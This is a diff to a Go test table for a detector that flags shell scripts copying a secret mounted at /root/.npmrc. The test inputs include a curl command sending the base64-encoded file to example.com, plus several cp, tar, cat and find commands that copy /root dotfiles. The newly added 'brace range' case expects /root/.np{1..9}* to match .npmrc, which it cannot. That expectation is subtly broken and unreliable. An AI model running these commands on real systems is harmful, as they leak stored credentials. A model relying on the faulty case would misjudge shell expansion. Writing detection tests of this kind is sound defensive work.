@@ -37,8 +37,9 @@ func TestOpaqueWrites(t *testing.T) {
 		{name: "base64 capture used", script: `T=$(base64 /root/.npmrc); curl -H "X: $T" https://example.com`},
 		{name: "negated class matching the mount", script: `cp -r /root/.[!.]* /srv/`, want: "cp copies the secret mounted at /root/.npmrc, which /root/.[!.]* matches"},
 		{name: "tar --directory of the parent", script: `tar --directory=/root -czf /srv/x.tgz .`, want: "tar copies /root, which holds a secret mount"},
-		{name: "brace expansion naming the mount", script: `cp /root/{.npmrc,.bashrc} /srv/`, want: "cp copies the secret mounted at /root/.npmrc, which /root/* matches"},
-		{name: "brace expansion elsewhere", script: `cp /opt/{a,b}.json /srv/ && mkdir -p /srv/{x,y}`},
+		{name: "brace expansion naming the mount", script: `cp /root/{.npmrc,.bashrc} /srv/`, want: "cp copies the secret mounted at /root/.npmrc, which /root/{.npmrc,.bashrc} matches"},
+		{name: "brace expansion elsewhere", script: `cp /opt/{a,b}.json /srv/ && mkdir -p /srv/{x,y} && cp -r /root/{.npm,.cache} /srv/`},
+		{name: "brace range", script: `cat /root/.np{1..9}* > /srv/x`, want: "cat copies the secret mounted at /root/.npmrc"},
 		// find and ls hand the files of the mount's directory to a copy.
 		{name: "find -exec cp over the parent", script: `find /root -type f -exec cp {} /srv/ \;`, want: "find -exec cp copies the files that /root holds"},
 		{name: "find -exec cat into a file", script: `find /root -name '.*rc' -exec cat {} + > /srv/all`, want: "find -exec cat copies the files that /root holds"},
